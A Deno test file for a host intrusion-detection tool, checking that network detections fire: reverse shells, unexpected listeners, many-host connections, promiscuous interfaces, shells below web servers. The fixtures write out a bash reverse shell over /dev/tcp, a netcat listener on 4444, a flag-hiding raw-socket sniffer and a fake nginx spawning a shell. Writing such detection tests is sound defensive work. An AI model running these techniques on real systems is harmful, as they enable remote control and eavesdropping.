import { assert, assertEquals } from "@std/assert";
import { join } from "@std/path";
import { jsonLines, runCli, temporaryFolder } from "../cli/run_cli.ts";
import { readSome, succeeds } from "../collectors/netmond/live.ts";
import { isRoot, run, testWith, textOf, until } from "../collectors/support.ts";
import { exists, filesOf, type Fired, firedOf, needs } from "./alerts.ts";

/** What a scan judges by connections, interfaces and ancestors. */
const SNAPSHOT = filesOf([
  "execution/shell_with_connection",
  "command-and-control/unexpected_listener",
  "command-and-control/inline_script_with_connection",
  "discovery/connections_to_many_hosts",
  "credential-access/promiscuous_interface",
  "initial-access/shell_below_web_server",
]);

const namespaces = { ...needs, "network namespaces": succeeds("unshare", "--net", "true") };
const python = { python3: exists("python3") };

async function scan(): Promise<readonly Fired[]> {
  await using state = await temporaryFolder();
  const { code, stdout, stderr } = await runCli([
    "scan",
    ...SNAPSHOT,
    "--format=json",
    `--state=${state.path}/state.kv`,
  ]);
  assertEquals(code, 0, stderr);
  const lines = jsonLines(stdout);
  assertEquals(lines.at(-1).not_evaluated, []);
  // Other tests listen, too, and Deno may lie where nothing should listen from.
  return lines.flatMap(firedOf).filter(({ row }) => row.executable_path !== Deno.execPath());
}

/** What tells alerts apart. */
const subject = ({ detection, row }: Fired) => `${detection} ${row.pid ?? row.interface_name}`;

/** Scans at most: somebody else may do something of the kind on the same host, for a while. */
const MAX_SCANS = 40;

/** The alerts of a host on which a detection does not fire: those of others, if there are any. */
async function quiet(detection: string): Promise<ReadonlySet<string>> {
  for (let scans = 1;; scans++) {
    const fired = await scan();
    const mine = fired.filter((one) => one.detection === detection);
    if (mine.length > 0 && scans < MAX_SCANS) continue;
    assertEquals(mine, []);
    return new Set(fired.map(subject));
  }
}

/** Scans until exactly these alerts have come to others, and gives the row of the first of them. */
async function firesExactly(
  before: ReadonlySet<string>,
  ...expected: readonly string[]
): Promise<Fired["row"] | undefined> {
  for (let scans = 1;; scans++) {
    const fired = (await scan()).filter((one) => !before.has(subject(one)));
    const subjects = fired.map(subject).sort();
    if (subjects.join() !== expected.toSorted().join() && scans < MAX_SCANS) continue;
    assertEquals(subjects, expected.toSorted());
    return fired[0]?.row;
  }
}

/** Starts a script of sh in a network namespace that has nothing but these addresses, and waits until it says so. */
async function inNetworkOf(
  addresses: readonly string[],
  script: string,
): Promise<{ readonly pid: number; readonly said: string } & AsyncDisposable> {
  const setUp = ["ip link set lo up", ...addresses.map((one) => `ip addr add ${one} dev lo`)];
  const child = new Deno.Command("unshare", {
    // What it starts ends with it.
    args: ["--net", "sh", "-ec", [...setUp, script].join("\n")],
    stdin: "null",
    stdout: "piped",
    stderr: "null",
  }).spawn();
  const said = await readSome(child.stdout);
  return {
    pid: child.pid,
    said: said.trim(),
    async [Symbol.asyncDispose]() {
      kill(child.pid);
      await child.stdout.cancel();
      await child.status;
    },
  };
}

function kill(pid: number): void {
  try {
    Deno.kill(pid, "SIGKILL");
  } catch {
    // It has ended by itself.
  }
}

/** A program in a file that takes every connection, on a port that it writes to a file. */
const SERVER = `
import socket, sys
server = socket.create_server(("0.0.0.0", 0), backlog=500)
with open(sys.argv[1] + ".new", "w") as file: file.write(str(server.getsockname()[1]))
import os; os.rename(sys.argv[1] + ".new", sys.argv[1])
taken = []
while True: taken.append(server.accept())
`;

/** Lines of sh that start it below a folder and wait for its port. */
const startServer = (folder: string) => `
python3 ${folder}/server.py ${folder}/port &
echo $! > ${folder}/pid
until [ -e ${folder}/port ]; do sleep 0.05; done
port=$(cat ${folder}/port)`;

async function serverFolder() {
  const folder = await temporaryFolder();
  await Deno.writeTextFile(`${folder.path}/server.py`, SERVER);
  return {
    path: folder.path,
    async [Symbol.asyncDispose]() {
      const pid = Number(textOf(`${folder.path}/pid`));
      if (pid > 0) kill(pid);
      await folder[Symbol.asyncDispose]();
    },
  };
}

/** An address of this host by which others reach it. */
const [own] = Deno.networkInterfaces().filter(({ family, address }) =>
  family === "IPv4" && !address.startsWith("127.")
);

testWith(
  { ...needs, bash: exists("bash"), "an address in a network": own !== undefined },
  "shell_with_connection fires on a bash that a host in the network types into",
  async () => {
    const before = await quiet("shell_with_connection");
    using listener = Deno.listen({ hostname: own!.address, port: 0 });
    const port = (listener.addr as Deno.NetAddr).port;
    // The command line that is left is `bash`.
    const script = `exec 3<>/dev/tcp/${own!.address}/${port}; exec bash <&3 >&3 2>&3 3>&-`;
    await using shell = run("bash", ["-c", script]);
    using typist = await listener.accept();
    await typist.write(new TextEncoder().encode("echo $((6 * 7))\n"));
    assertEquals((await readSome(typist.readable)).trim(), "42");
    const row = await firesExactly(before, `shell_with_connection ${shell.pid}`);
    assertEquals([row!.command_line, row!.remote_address, row!.remote_port, row!.direction], [
      "bash",
      own!.address,
      port,
      "outbound",
    ]);
  },
);

testWith(
  { ...needs, ...python },
  "unexpected_listener fires on a script in the arguments of Python that listens",
  async () => {
    const before = await quiet("unexpected_listener");
    const script = `import socket, sys
server = socket.create_server(("0.0.0.0", 0))
print(server.getsockname()[1], flush=True)
server.accept()`;
    const child = new Deno.Command("python3", {
      args: ["-c", script],
      stdin: "null",
      stdout: "piped",
    }).spawn();
    try {
      const port = Number(await readSome(child.stdout));
      const row = await firesExactly(before, `unexpected_listener ${child.pid}`);
      assertEquals(row!.local_port, port);
    } finally {
      kill(child.pid);
      await child.stdout.cancel();
      await child.status;
    }
  },
);

testWith(
  { ...namespaces, nc: exists("nc") },
  "unexpected_listener fires on a netcat that listens in another network namespace",
  async () => {
    const before = await quiet("unexpected_listener");
    await using nc = await inNetworkOf(["10.99.0.1/32"], "echo ready\nexec nc -l 4444");
    await until("nc listens", () => textOf(`/proc/${nc.pid}/net/tcp`).includes(":115C "));
    const row = await firesExactly(before, `unexpected_listener ${nc.pid}`);
    assertEquals([row!.name, row!.local_port], ["nc", 4444]);
  },
);

testWith(
  { ...namespaces, ...python },
  "inline_script_with_connection fires on a Python one-liner that talks to a public address",
  async () => {
    const before = await quiet("inline_script_with_connection");
    await using folder = await serverFolder();
    const script = `import socket, sys, time
peer = socket.create_connection(("8.8.8.8", int(sys.argv[1]))); print("connected", flush=True)
time.sleep(600)`;
    await using bait = await inNetworkOf(
      ["8.8.8.8/32"],
      `${startServer(folder.path)}\nexec python3 -c '${script}' $port`,
    );
    assertEquals(bait.said, "connected");
    const row = await firesExactly(before, `inline_script_with_connection ${bait.pid}`);
    assertEquals([row!.remote_address, row!.direction], ["8.8.8.8", "outbound"]);
  },
);

/** A program in a file that begins connections to addresses of a network and says so. */
const CLIENT = `
import errno, socket, sys, time
net, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
begun = []
for number in range(1, count + 1):
  one = socket.socket(); one.setblocking(False)
  assert one.connect_ex((f"{net}.{number}", port)) in (0, errno.EINPROGRESS)
  begun.append(one)
print("begun", flush=True)
time.sleep(600)
`;

testWith(
  { ...namespaces, ...python },
  "connections_to_many_hosts fires on a client of more than a hundred hosts",
  async () => {
    const before = await quiet("connections_to_many_hosts");
    await using folder = await serverFolder();
    await Deno.writeTextFile(`${folder.path}/client.py`, CLIENT);
    await using bait = await inNetworkOf(
      ["10.99.0.1/24"],
      `${startServer(folder.path)}\nexec python3 ${folder.path}/client.py 10.99.0 $port 120`,
    );
    assertEquals(bait.said, "begun");
    const row = await firesExactly(before, `connections_to_many_hosts ${bait.pid}`);
    assertEquals([row!.hosts, row!.ports], [120, 1]);
  },
);

testWith(
  { ...namespaces, ...python },
  "connections_to_many_hosts fires on a client whose hosts do not answer",
  async () => {
    const before = await quiet("connections_to_many_hosts");
    await using folder = await temporaryFolder();
    await Deno.writeTextFile(`${folder.path}/client.py`, CLIENT);
    await using bait = await inNetworkOf(
      [],
      `ip link add nowhere type veth peer name void
ip link set void up
ip link set nowhere arp off up
ip addr add 10.99.1.254/24 dev nowhere
exec python3 ${folder.path}/client.py 10.99.1 22 40`,
    );
    assertEquals(bait.said, "begun");
    const row = await firesExactly(before, `connections_to_many_hosts ${bait.pid}`);
    assertEquals([row!.hosts, row!.waiting], [40, 40]);
  },
);

/** A pair of interfaces that can hear, which go with their scope. */
function interfacePair(): { readonly name: string } & Disposable {
  const name = `dl${Deno.pid}`;
  const ip = (...args: string[]) => assert(succeeds("ip", "link", ...args), `ip link ${args}`);
  ip("add", name, "type", "veth", "peer", "name", `${name}p`);
  ip("set", name, "up");
  ip("set", `${name}p`, "up");
  return { name, [Symbol.dispose]: () => ip("del", name) };
}

const pairs = { ...needs, "pairs of interfaces": isRoot && canPair() };

function canPair(): boolean {
  try {
    using _pair = interfacePair();
    return true;
  } catch {
    return false;
  }
}

testWith(
  pairs,
  "promiscuous_interface fires once an interface is made so, unless it is a port of a bridge",
  async () => {
    using pair = interfacePair();
    const before = await quiet("promiscuous_interface");
    assert(succeeds("ip", "link", "set", pair.name, "promisc", "on"));
    const row = await firesExactly(before, `promiscuous_interface ${pair.name}`);
    assertEquals(row!.interface_type, "veth");
    const bridge = `${pair.name}b`;
    assert(succeeds("ip", "link", "add", bridge, "type", "bridge"));
    try {
      assert(succeeds("ip", "link", "set", pair.name, "master", bridge));
      await firesExactly(before);
    } finally {
      succeeds("ip", "link", "del", bridge);
    }
  },
);

testWith(
  { ...pairs, ...python },
  "promiscuous_interface fires on a sniffer that no flag of ip link shows",
  async () => {
    using pair = interfacePair();
    const before = await quiet("promiscuous_interface");
    // SOL_PACKET, PACKET_ADD_MEMBERSHIP and PACKET_MR_PROMISC of packet(7).
    const script = `import socket, struct, sys, time
sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
index = socket.if_nametoindex(sys.argv[1])
sniffer.setsockopt(263, 1, struct.pack("IHH8s", index, 1, 0, b""))
time.sleep(600)`;
    await using _sniffer = run("python3", ["-c", script, pair.name]);
    const flags = () => Number(textOf(`/sys/class/net/${pair.name}/flags`));
    await until("it is promiscuous", () => (flags() & 0x100) !== 0);
    const { stdout } = await new Deno.Command("ip", { args: ["link", "show", pair.name] }).output();
    assert(!new TextDecoder().decode(stdout).includes("PROMISC"));
    await firesExactly(before, `promiscuous_interface ${pair.name}`);
  },
);

testWith(
  { ...needs, bash: exists("bash"), timeout: exists("timeout") },
  "shell_below_web_server fires on a shell that a program of the server started",
  async () => {
    const before = await quiet("shell_below_web_server");
    await using folder = await temporaryFolder();
    const server = join(folder.path, "nginx");
    await Deno.copyFile("/bin/bash", server);
    const shell = `sh -c 'echo $$ > ${folder.path}/pid; while :; do sleep 1; done'`;
    await using nginx = run(server, ["-c", `timeout 600 ${shell}; :`]);
    const file = `${folder.path}/pid`;
    await until("the shell runs", () => textOf(file).endsWith("\n"));
    const pid = Number(textOf(file));
    try {
      const row = await firesExactly(before, `shell_below_web_server ${pid}`);
      assertEquals([row!.server, row!.server_pid, row!.depth], ["nginx", nginx.pid, 2]);
    } finally {
      kill(pid);
    }
  },
);
